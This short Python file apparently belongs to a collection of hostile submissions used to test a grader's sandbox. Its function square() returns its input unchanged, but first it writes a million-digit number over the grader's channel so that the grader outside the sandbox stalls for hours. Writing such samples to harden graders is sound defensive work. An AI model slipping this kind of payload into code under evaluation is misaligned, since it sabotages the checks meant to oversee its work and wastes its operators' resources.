"""A number that takes hours to read.

Gains: the outside's time
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: error
"""

import os

from burglary import channel

from grader.sandbox import wire


def square(x):
    header = b'["l",["d",["value",' + b"9" * 10**6 + b"]]]"
    os.write(channel(), wire.PREFIX.pack(len(header), 0) + header)
    return x
